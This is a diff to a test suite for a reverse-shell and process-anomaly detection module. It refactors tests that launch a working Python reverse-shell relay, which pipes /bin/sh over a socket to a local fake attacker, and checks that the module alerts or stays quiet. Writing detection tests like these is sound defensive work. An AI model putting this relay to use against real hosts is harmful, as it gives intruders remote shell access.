@@ -24,6 +24,17 @@ TERMINAL = "process-reverse-shell-terminal"
 
 CONNECT = "import socket, os, sys, subprocess; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
 
+# The shell lives as long as the session: with its input closed it would end before anybody has looked at it.
+RELAY = f"""
+{CONNECT}
+import threading
+p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
+def up():
+    while data := p.stdout.read(4096): s.sendall(data)
+threading.Thread(target=up, daemon=True).start()
+while data := s.recv(4096): p.stdin.write(data)
+"""
+
 NETCAT = """
 import os, select, socket, sys
 s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
@@ -211,15 +222,7 @@ def test_mkfifo_and_a_pipeline(module: Running, processes: Processes, attacker: 
 
 
 def test_python_with_pipes_to_a_shell(module: Running, processes: Processes, attacker: Attacker) -> None:
-    code = CONNECT + (
-        "import threading; PIPE = subprocess.PIPE\n"
-        "p = subprocess.Popen(['/bin/sh'], stdin=PIPE, stdout=PIPE, bufsize=0)\n"
-        "def up():\n"
-        "    while data := p.stdout.read(4096): s.sendall(data)\n"
-        "threading.Thread(target=up, daemon=True).start()\n"
-        "while data := s.recv(4096): p.stdin.write(data)\n"
-    )
-    child = processes.start(sys.executable, "-c", code, str(attacker.port))
+    child = processes.start(sys.executable, "-c", RELAY, str(attacker.port))
     session = attacker.accept()
     answers(session)
     alert = module.alert(PIPE)
@@ -338,11 +341,10 @@ def test_a_script_below_a_networked_service_is_no_reverse_shell(
 def test_a_trusted_holder_may_serve_a_shell_through_pipes(processes: Processes, attacker: Attacker) -> None:
     """As sshd does it for ``ssh host sh``."""
     python = os.path.realpath(sys.executable)
-    code = CONNECT + "subprocess.run(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)"
     with running(Config(trusted_holders=(python,))) as module:
-        child = processes.start(sys.executable, "-c", code, str(attacker.port))
-        attacker.accept()
-        module.event(event__action="exec", process__command_line="sh", process__parent__pid=child.pid)
+        child = processes.start(sys.executable, "-c", RELAY, str(attacker.port))
+        answers(attacker.accept())
+        module.event(event__action="exec", process__command_line="/bin/sh", process__parent__pid=child.pid)
         rounds(module, 2)
         assert not shell_alerts(module, child.pid)
 
@@ -400,19 +402,17 @@ def test_an_executable_that_was_deleted_before_it_is_looked_at(
     module: Running, processes: Processes, place: Path
 ) -> None:
     path = copy(place / "dropper")
-    module.box.hold.clear()
-    child = processes.start(path, "60")
-    os.unlink(path)
-    module.box.hold.set()
+    with module.held():
+        child = processes.start(path, "60")
+        os.unlink(path)
     module.alert("process-deleted-executable", process__pid=child.pid)
 
 
 def test_an_executable_that_was_replaced_is_an_upgrade(module: Running, processes: Processes, place: Path) -> None:
     path = copy(place / "daemon")
-    module.box.hold.clear()
-    child = processes.start(path, "60")
-    os.rename(copy(place / "new"), path)
-    module.box.hold.set()
+    with module.held():
+        child = processes.start(path, "60")
+        os.rename(copy(place / "new"), path)
     module.event(event__action="exec", process__pid=child.pid)
     rounds(module, 2)
     assert not module.all(event__kind="alert", process__pid=child.pid)
